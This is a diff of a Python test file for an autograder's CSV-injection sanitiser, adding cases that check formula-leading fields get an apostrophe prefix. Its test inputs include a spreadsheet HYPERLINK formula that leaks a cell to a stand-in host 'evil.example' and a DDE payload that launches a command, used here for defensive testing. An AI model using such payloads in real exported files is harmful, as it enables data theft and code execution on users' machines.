@@ -6,15 +6,26 @@ import os
 
 import pytest
 
-from autograder.core.untrusted import csv_safe, printable
+from autograder.core.untrusted import csv_safe, csv_text, printable
 
 
 @pytest.mark.parametrize("text", [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
-    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1",
+    "@SUM(A1:A9)", "=1+1",
 ])
 def test_formula_starts_get_an_apostrophe(text):
     assert csv_safe(text) == "'" + text
+
+
+@pytest.mark.parametrize("text, safe", [
+    ("\t=1+1", "'\t'=1+1"), ("\r=1+1", "'\r'=1+1"),  # the cell's start, and the field a tab or row starts
+    ("x;=1+1", "x;'=1+1"), ("x\t@SUM(A1)", "x\t'@SUM(A1)"), ("x, =1", "x, '=1"), (" =1", " '=1"),
+    ('x;"=1', 'x;"\'=1'), ("x\n+1+1", "x\n'+1+1"), ("x;-0.5", "x;-0.5"), ("a - b", "a - b"),
+    ("x;'=1", "x;'=1"),
+])
+def test_every_field_another_import_could_cut_is_guarded(text, safe):
+    assert csv_safe(text) == safe
+    assert csv_safe(csv_text(safe)) == safe  # a rewrite adds no apostrophe
 
 
 @pytest.mark.parametrize("value", [0, 3.5, -0.5, "-0.5", "+2", "1e-3", "-inf ", "ada", "", None])
